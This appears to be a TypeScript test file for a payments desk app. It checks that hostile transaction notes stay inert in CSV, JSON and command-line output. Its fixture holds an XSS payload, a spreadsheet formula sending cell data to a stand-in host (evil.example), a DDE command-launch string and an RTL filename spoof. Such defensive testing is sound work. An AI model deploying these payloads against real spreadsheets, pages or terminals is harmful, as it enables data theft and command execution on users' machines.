/**
 * Hostile text in notes — HTML, formula prefixes, an RTL override, zero-width characters, 10,000
 * characters, emoji — stays inert and readable in every export (CSV de, CSV, JSON; the real export
 * functions over a real index) and in the CLI (the real simulator over loopback, the real keychain).
 * Inert: no spreadsheet formula, no terminal control. Readable: the text comes back unchanged
 * (CSV: after the apostrophe a formula-like cell gets; CLI: the shown part, with controls made visible).
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runCli } from '../../src/main/cli/run-cli'
import { createKeytarSecretStore } from '../../src/main/services/credentials'
import { looksLikeFormula } from '../../src/main/services/export/csv-cells'
import { exportTransactions } from '../../src/main/services/export/export-transactions'
import { createQueryEngine } from '../../src/main/services/query/query-engine'
import { createTransactionIndex } from '../../src/main/services/query/transaction-index'
import { startSimulator, type RunningSimulator } from '../../src/main/simulator'
import type { PayInTransaction } from '../../src/shared/domain'
import type { TransactionFilter } from '../../src/shared/views'

const HOSTILE: Record<string, string> = {
  html: '<img src=x onerror=alert(1)><script>alert(2)</script>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  formulaBehindSpace: ' \u00A0\u200B=1+1',
  plus: '+49 170 1234',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  rtl: 'invoice \u202Efdp.exe',
  zeroWidth: 'pay\u200Bment\u200C\u200D\u2060\uFEFF',
  emoji: 'Danke 🙏🏽 👨‍👩‍👧 🇩🇪 — grüße',
  long: 'x'.repeat(9_990) + ' 🙂 end!',
  emojiAtTableCut: 'Bestellung 4711 für Frau Müller-Lüdens😀👍🏽 danke',
  mixed: '\u202E<b>=1</b> 😀\u200B'
}

/** A lone surrogate = a character cut in half (what String#isWellFormed checks, without ES2024 lib). */
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/

// eslint-disable-next-line no-control-regex -- the test looks for control characters
const TERMINAL_CONTROLS = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF records). */
function parseCsv(content: string, sep: string): string[][] {
  const out: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < content.length; i++) {
    const c = content[i] as string
    if (quoted) {
      if (c === '"' && content[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === sep) {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && content[i + 1] === '\n') {
      row.push(cell)
      out.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
  }
  if (cell !== '' || row.length > 0) out.push([...row, cell])
  return out
}

const MAY: TransactionFilter = { period: { kind: 'month', month: '2026-05' }, kinds: [], statuses: [], amountMinCents: null, amountMaxCents: null, search: '' }

function hostileRows(): PayInTransaction[] {
  return Object.values(HOSTILE).map((note, i) => ({
    payId: String(9000 + i),
    transactionId: `20260510-pi-hostile-${i}`,
    creatorId: null, userId: null,
    amount: 1000 + i, netAmount: 950, serviceFee: 20, serviceFeePsp: 30,
    status: 'Success', recipientNote: note, payoutStatus: 'Pending',
    createdAt: `2026-05-${String(10 + i).padStart(2, '0')} 12:00:00`,
    isSplitLink: false, isDispute: false, isRefund: false,
    paymentMethod: 'card', transactionType: 'Basic'
  }))
}

describe('hostile notes in exports', () => {
  const index = createTransactionIndex()
  index.reset(hostileRows())
  const { rows, totals } = createQueryEngine({ index }).selectAll(MAY)
  const exportAs = (format: 'csv-de' | 'csv' | 'json') =>
    exportTransactions({ rows, totals, filter: MAY, format, language: format === 'csv-de' ? 'de' : 'en', dataAsOf: '2026-06-01T06:00:00.000Z', now: new Date('2026-06-01T08:00:00Z') })

  it.each([
    ['csv-de', ';'],
    ['csv', ',']
  ] as const)('%s: every note is an inert text cell that reads back unchanged', (format, sep) => {
    const file = exportAs(format)
    expect(file.content).not.toMatch(LONE_SURROGATE) // no emoji cut in half
    const lines = parseCsv(file.content.replace(/^\uFEFF/, ''), sep)
    const header = lines.findIndex((l) => l.includes(format === 'csv-de' ? 'Referenz' : 'Reference'))
    expect(header).toBeGreaterThan(0)
    const noteColumn = (lines[header] as string[]).indexOf(format === 'csv-de' ? 'Referenz' : 'Reference')
    const notes = lines.slice(header + 1).map((l) => l[noteColumn] as string)
    expect(notes).toHaveLength(Object.keys(HOSTILE).length)
    for (const original of Object.values(HOSTILE)) {
      const cell = notes.find((n) => n === original || n === `'${original}`)
      expect(cell, `note ${JSON.stringify(original.slice(0, 30))}`).toBeDefined()
      // Inert: a formula-like note carries the apostrophe; nothing else is changed.
      expect(cell).toBe(looksLikeFormula(original) ? `'${original}` : original)
      expect(looksLikeFormula(cell as string)).toBe(false)
    }
  })

  it('json: every note round-trips exactly', () => {
    const file = exportAs('json')
    const doc = JSON.parse(file.content) as { rows: { payId: string; recipientNote: string }[] }
    expect(doc.rows.map((r) => r.recipientNote).sort()).toEqual(Object.values(HOSTILE).sort())
  })
})

const hasKeyring = Boolean(process.env['DBUS_SESSION_BUS_ADDRESS'])
const needsKeyring = it.skipIf(!hasKeyring && !process.env['CI'])

describe('hostile notes in the CLI (real simulator, real keychain)', () => {
  let sim: RunningSimulator
  let dir: string
  const payIds = new Map<string, string>()
  const keychain = createKeytarSecretStore({ service: `SecPaid Desk CLI Hostile Test ${process.pid}-${Date.now()}` })

  async function cli(argv: string[], stdin = ''): Promise<{ code: number; out: string; err: string }> {
    let out = ''
    let err = ''
    const code = await runCli(argv, { stdout: (t) => (out += t), stderr: (t) => (err += t), readStdin: async () => stdin }, { env: { SECPAID_API_BASE: sim.baseUrl }, keychain })
    return { code, out, err }
  }

  beforeAll(async () => {
    sim = await startSimulator({ seed: 29, rows: 30, rateLimitPerMinute: null })
    // The simulator (like SecPaid's form) caps a note at 500 characters.
    for (const [name, note] of Object.entries(HOSTILE)) {
      payIds.set(name, sim.admin.addPayment({ amount: '9.99', recipient_note: note.slice(-500) }).pay_id)
    }
    dir = mkdtempSync(join(tmpdir(), 'cli-hostile-'))
  })

  afterAll(async () => {
    await sim.close()
    await keychain.delete('custom').catch(() => false)
    rmSync(dir, { recursive: true, force: true })
  })

  needsKeyring('list prints every note without controls and with whole characters; --json keeps them exactly', async () => {
    const base = ['--env', 'custom', '--data-dir', dir]
    expect((await cli(['login', ...base], sim.apiKey)).code).toBe(0)
    expect((await cli(['sync', ...base])).code).toBe(0)

    const human = await cli(['list', ...base])
    expect(human.code, human.err).toBe(0)
    expect(human.out).not.toMatch(LONE_SURROGATE)
    expect(human.out).not.toMatch(TERMINAL_CONTROLS)
    expect(human.out).toContain('<img src=x onerror=alert(1)>') // shown as text, not interpreted
    expect(human.out).toContain('invoice \uFFFDfdp.exe') // the override is visible, not obeyed
    expect(human.out).toContain('Danke 🙏🏽 👨‍👩‍👧 🇩🇪')

    const json = await cli(['list', ...base, '--json'])
    const notes = new Map((JSON.parse(json.out) as { rows: { payId: string; recipientNote: string }[] }).rows.map((r) => [r.payId, r.recipientNote]))
    for (const [name, note] of Object.entries(HOSTILE)) expect(notes.get(payIds.get(name) as string)).toBe(note.slice(-500))
  })
})
